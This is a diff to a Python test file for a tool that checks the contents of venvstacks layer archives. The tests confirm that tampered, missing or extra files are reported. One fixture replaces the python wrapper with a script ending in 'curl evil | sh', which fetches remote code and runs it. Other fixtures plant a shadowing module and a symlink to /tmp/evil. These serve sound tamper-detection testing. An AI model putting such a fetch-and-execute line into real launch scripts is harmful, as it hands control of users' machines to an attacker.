@@ -2,21 +2,19 @@
 
 from __future__ import annotations
 
-import hashlib
 from pathlib import Path
 
 from srcstacks.accounting import InstalledWheel, account_for_files
 from srcstacks.archive_reader import ArchiveContents, InstalledDist, WheelFiles, record_digest
 from srcstacks.tools.venvstacks import LayerMetadata
+from srcstacks.tools.venvstacks_writes import LayerFiles, Written
 
 SITE = "lib/python3.11/site-packages"
 GREETER = b"print('hello')\n"
-
-
-def venvstacks_hash(name: str, data: bytes) -> str:
-    """venvstacks' hash_file_name_and_contents, as its metadata records it."""
-    inner = f"sha256:{hashlib.sha256(data).hexdigest()}"
-    return "sha256:" + hashlib.sha256(name.encode() + inner.encode()).hexdigest()
+WRAPPER = b"#!/usr/bin/bash\nexec python_\n"
+POSTINSTALL = b"# venvstacks\n"
+LAYER_CONFIG = b"{}"
+MODULE = "the spec's module launch_modules/greeter.py"
 
 
 def app_layer() -> LayerMetadata:
@@ -27,7 +25,34 @@ def app_layer() -> LayerMetadata:
         runtime_layer="cpython-3.11",
         app_launch_module="greeter",
         python_implementation="cpython@3.11.7",
-        raw={"app_launch_module_hash": venvstacks_hash("greeter.py", GREETER)},
+    )
+
+
+def app_written() -> LayerFiles:
+    """What venvstacks writes into app-x, as tools.venvstacks_writes regenerates it."""
+    link = "venvstacks (link to the wrapper)"
+    return LayerFiles(
+        SITE,
+        {
+            "postinstall.py": Written(record_digest(POSTINSTALL), "venvstacks' postinstall.py"),
+            "share/venv/metadata/venvstacks_layer.json": Written(
+                record_digest(LAYER_CONFIG), "venvstacks' layer config for this spec"
+            ),
+            "bin/python": Written(record_digest(WRAPPER), "the python wrapper venvstacks writes"),
+            "bin/python3": Written("symlink:python", link),
+            "bin/python3.11": Written("symlink:python", link),
+            "bin/python_": Written(
+                "symlink:../../cpython-3.11/bin/python", "venvstacks (the runtime's python)"
+            ),
+            "lib64": Written("symlink:lib", "venvstacks (the venv's lib64 link)"),
+            f"{SITE}/greeter.py": Written(record_digest(GREETER), MODULE),
+        },
+    )
+
+
+def runtime_written() -> LayerFiles:
+    return LayerFiles(
+        SITE, {"postinstall.py": Written(record_digest(POSTINSTALL), "venvstacks' postinstall.py")}
     )
 
 
@@ -41,20 +66,18 @@ WHEEL_FILES = {
 def wheel() -> InstalledWheel:
     record = {path: record_digest(data) for path, data in WHEEL_FILES.items()}
     dist = InstalledDist("idna", "3.11", "idna-3.11.dist-info")
-    entry_points = "[console_scripts]\nidna-cli = idna:main\n"
-    return InstalledWheel(dist, "idna-3.11-0-py3-none-any.whl", WheelFiles(record, entry_points))
+    return InstalledWheel(dist, "idna-3.11-0-py3-none-any.whl", WheelFiles(record))
 
 
 def app_members(**changes: bytes | str | None) -> dict[str, str]:
     """The members of a well-formed app layer archive; ``changes`` add, alter or drop."""
     files: dict[str, bytes | str | None] = {
-        "postinstall.py": b"# venvstacks\n",
-        "share/venv/metadata/venvstacks_layer.json": b"{}",
-        "bin/python": b"#!/usr/bin/bash\n",
+        "postinstall.py": POSTINSTALL,
+        "share/venv/metadata/venvstacks_layer.json": LAYER_CONFIG,
+        "bin/python": WRAPPER,
         "bin/python3": "symlink:python",
         "bin/python3.11": "symlink:python",
         "bin/python_": "symlink:../../cpython-3.11/bin/python",
-        "bin/idna-cli": b"#!/usr/bin/env python\n",
         "lib64": "symlink:lib",
         f"{SITE}/greeter.py": GREETER,
         f"{SITE}/idna-3.11.dist-info/INSTALLER": b"uv",
@@ -72,7 +95,7 @@ def app_members(**changes: bytes | str | None) -> dict[str, str]:
 
 def problems(members: dict[str, str], layer: LayerMetadata | None = None) -> list[str]:
     contents = ArchiveContents(Path("app-x.tar.xz"), "0" * 64, (), {}, (), members)
-    return account_for_files(contents, layer or app_layer(), [wheel()], None, None)
+    return account_for_files(contents, layer or app_layer(), [wheel()], None, app_written())
 
 
 def test_a_well_formed_layer_is_fully_accounted_for() -> None:
@@ -99,8 +122,7 @@ def test_changed_missing_and_relinked_files_are_named() -> None:
     )  # fmt: skip
     assert found == [
         "app-x.tar.xz: app-x/bin/python_ differs from venvstacks (the runtime's python)",
-        f"app-x.tar.xz: app-x/{SITE}/greeter.py differs from venvstacks (the application's"
-        " module greeter, hashed in its metadata)",
+        f"app-x.tar.xz: app-x/{SITE}/greeter.py differs from {MODULE}",
         "app-x.tar.xz: idna/__init__.py differs from the file in idna-3.11-0-py3-none-any.whl",
         f"app-x.tar.xz: app-x/{SITE}/__pycache__/greeter.cpython-311.pyc is unaccounted for"
         " (in no wheel's RECORD, not in the runtime's file list, not a file venvstacks writes)",
@@ -128,15 +150,52 @@ def test_runtime_files_come_from_the_runtime_list() -> None:
     members = {
         "cpython-3.11/bin/python3.11": record_digest(b"ELF"),
         "cpython-3.11/bin/python3": "symlink:python3.11",
-        "cpython-3.11/postinstall.py": record_digest(b"venvstacks"),
+        "cpython-3.11/postinstall.py": record_digest(POSTINSTALL),
     }
     contents = ArchiveContents(Path("cpython-3.11.tar.xz"), "0" * 64, (), {}, (), members)
-    assert account_for_files(contents, runtime, [], listed, None) == []
+    assert account_for_files(contents, runtime, [], listed, runtime_written()) == []
     members["cpython-3.11/lib/python3.11/sitecustomize.py"] = record_digest(b"evil")
     members["cpython-3.11/bin/python3"] = "symlink:/tmp/evil"
-    assert account_for_files(contents, runtime, [], listed, b"# venvstacks\n") == [
+    members["cpython-3.11/postinstall.py"] = record_digest(b"# venvstacks, edited\n")
+    assert account_for_files(contents, runtime, [], listed, runtime_written()) == [
         "cpython-3.11.tar.xz: cpython-3.11/bin/python3 differs from the runtime's file list",
         "cpython-3.11.tar.xz: cpython-3.11/postinstall.py differs from venvstacks' postinstall.py",
         "cpython-3.11.tar.xz: cpython-3.11/lib/python3.11/sitecustomize.py is unaccounted for"
         " (in no wheel's RECORD, not in the runtime's file list, not a file venvstacks writes)",
+    ]
+
+
+UNACCOUNTED = (
+    " is unaccounted for (in no wheel's RECORD, not in the runtime's file list,"
+    " not a file venvstacks writes)"
+)
+
+
+def test_a_replaced_python_wrapper_is_named() -> None:
+    """Issue 23, hole 1: the wrapper every python of the layer runs is checked by content."""
+    found = problems(app_members(**{"bin/python": b"#!/usr/bin/bash\ncurl evil | sh\n"}))
+    assert found == [
+        "app-x.tar.xz: app-x/bin/python differs from the python wrapper venvstacks writes"
+    ]
+
+
+def test_a_module_beside_or_inside_the_launch_module_is_unaccounted() -> None:
+    """A package of the launch module's name would shadow it; nothing is accepted by name."""
+    found = problems(
+        app_members(**{
+            f"{SITE}/greeter/__init__.py": b"print('pwned')\n",
+            "bin/idna-cli": b"#!/usr/bin/env python\n",
+        })
+    )  # fmt: skip
+    assert found == [
+        f"app-x.tar.xz: app-x/bin/idna-cli{UNACCOUNTED}",
+        f"app-x.tar.xz: app-x/{SITE}/greeter/__init__.py{UNACCOUNTED}",
+    ]
+
+
+def test_a_file_venvstacks_writes_missing_is_named() -> None:
+    found = problems(app_members(**{"share/venv/metadata/venvstacks_layer.json": None}))
+    assert found == [
+        "app-x.tar.xz: app-x/share/venv/metadata/venvstacks_layer.json from venvstacks'"
+        " layer config for this spec is missing"
     ]
